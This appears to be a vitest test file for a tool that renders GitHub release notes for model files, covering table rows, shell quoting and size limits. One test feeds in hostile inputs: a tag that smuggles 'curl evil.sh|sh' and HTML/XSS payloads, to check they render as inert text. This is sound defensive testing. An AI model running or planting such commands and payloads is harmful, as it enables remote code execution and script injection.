/**
 * The release body: one row per file with its gate and decode speed, the toolchain, how to fetch
 * and verify; hostile names render as text, and a huge release stays under GitHub's 125,000-
 * character limit by pointing at manifest.json.
 */
import { describe, expect, it } from "vitest";
import type { ReleaseCell } from "../actions/src/schemas/release-manifest.ts";
import {
  formatBytes,
  RELEASE_BODY_BUDGET,
  RELEASE_BODY_LIMIT,
  renderReleaseNotes,
  shellArg,
} from "../reports/release-notes.ts";
import { githubSize } from "../reports/size.ts";
import { hasGfm, pings, renderGfm, tags } from "./helpers/gfm.ts";
import { releaseEntry, releaseOf } from "./helpers/release-manifest.ts";

function withDecode(e: ReleaseCell): ReleaseCell {
  return {
    ...e,
    bench: {
      ...e.bench,
      decode_tokens_per_sec: {
        unit: "tok/s",
        better: "higher",
        n: 10,
        median: 6.714,
        ci: [6.52, 6.9],
        confidence: 0.95,
      },
    },
    roofline: { bytes_per_token: 1, bandwidth_gbs: 17, bound_tokens_per_sec: 16, fraction: 0.4196 },
  };
}

describe("release notes", () => {
  it("one row per cell: file size and parts, short sha256, gate, decode median [95% CI], % of roofline", () => {
    const split = releaseEntry("pi5", 5_000_000_000);
    const parts = [0, 1, 2].map((i) => ({
      name: `${split.file.name}.part-${i + 1}-of-3`,
      sha256: "e".repeat(64),
      bytes: 1,
      offset: i,
    }));
    const notes = renderReleaseNotes(
      releaseOf([withDecode(releaseEntry("m1", 92_560)), { ...split, file: { ...split.file, parts } }]),
    );
    expect(notes).toContain("| cell | file | sha256 | gate | decode tok/s median [95% CI] | % of roofline |");
    expect(notes).toContain(
      "| `tiny-llama/fp32/portable/m1@stable` | `tiny-llama--fp32--portable--m1--stable.pte` (90.4 KiB) | `cccccccccccc` | pass (bit-exact fp32) | 6.71 \\[6.52, 6.90\\] | 42% |",
    );
    expect(notes).toContain(
      "(4.66 GiB, 3 parts) | `cccccccccccc` | pass (bit-exact fp32) | 102 \\[no CI: n=3\\] | — |",
    );
    expect(notes).toContain("pte-farm fetch v1.0.0 tiny-llama/fp32/portable/m1@stable");
    expect(notes).toContain("gh attestation verify tiny-llama--fp32--portable--m1--stable.pte -R octo/farm");
    expect(notes).toContain("- `stable`: ethos-u-vela 5.1.0, executorch 1.4.1,");
    expect(notes).toContain(
      "[manifest.json](https://github.com/octo/farm/releases/download/v1.0.0/manifest.json)",
    );
  });

  it.skipIf(!hasGfm)(
    "hostile names and tags render as text under cmark-gfm: no HTML, table break, mention or runnable command",
    () => {
      const e = releaseEntry("pi5");
      const hostile = {
        ...e,
        cell: { ...e.cell, id: "x|y/<img src=x onerror=alert(1)>/@team/pi5@`stable`" },
        file: { ...e.file, name: "a|b<script>.pte" },
        toolchain: { ...e.toolchain, name: "<b>bold</b> @octocat", build: { torch: "2.0 | <i>x</i>" } },
      };
      const tag = "v1`$(curl evil.sh|sh)`";
      const notes = renderReleaseNotes(releaseOf([hostile], { tag }));
      const [html = ""] = renderGfm([notes]);
      expect(tags(html).filter((t) => ["img", "script", "b", "i"].includes(t))).toEqual([]);
      expect(pings(html)).toEqual([]);
      // One table row of six cells: no `|` in a name split it.
      expect(html.match(/<tr>/g)).toHaveLength(2);
      expect(html.match(/<td>/g)).toHaveLength(6);
      expect(notes).toContain(
        `pte-farm fetch 'v1\`$(curl evil.sh|sh)\`' 'x|y/<img src=x onerror=alert(1)>/@team/pi5@\`stable\`'`,
      );
    },
  );

  it("quotes shell words unless plainly safe", () => {
    expect(shellArg("tiny-llama/fp32/portable/pi5@stable")).toBe("tiny-llama/fp32/portable/pi5@stable");
    expect(shellArg("it's")).toBe("'it'\\''s'");
    expect(shellArg("a b")).toBe("'a b'");
  });

  it("a release too large for one body keeps the rows that fit, under 125,000 characters, and links manifest.json", () => {
    const cells = Array.from({ length: 3000 }, (_, i) =>
      withDecode(releaseEntry(`board-${String(i).padStart(4, "0")}`)),
    );
    const notes = renderReleaseNotes(releaseOf(cells));
    expect(githubSize(notes)).toBeLessThanOrEqual(RELEASE_BODY_BUDGET);
    expect(RELEASE_BODY_BUDGET).toBeLessThan(RELEASE_BODY_LIMIT);
    const rows = notes.split("\n").filter((l) => l.startsWith("| `tiny-llama/"));
    expect(rows.length).toBeGreaterThan(100);
    expect(rows.length).toBeLessThan(3000);
    expect(notes).toContain(
      `${3000 - rows.length} more cells than fit here: every cell is in [manifest.json](https://github.com/octo/farm/releases/download/v1.0.0/manifest.json).`,
    );
    expect(notes).toContain("### Fetch and verify");
  });

  it("with no room for any row, the notes are the link to manifest.json and how to fetch", () => {
    const notes = renderReleaseNotes(releaseOf([releaseEntry("pi5")]), 1150);
    expect(notes).not.toContain("| cell |");
    expect(notes).toContain("1 more cell than fit here: every cell is in [manifest.json]");
    expect(githubSize(notes)).toBeLessThanOrEqual(1150);
  });

  it("sizes are in binary units", () => {
    expect([0, 1023, 1024, 92_560, 2 ** 31, 5_000_000_000].map(formatBytes)).toEqual([
      "0 B",
      "1023 B",
      "1.00 KiB",
      "90.4 KiB",
      "2.00 GiB",
      "4.66 GiB",
    ]);
  });
});
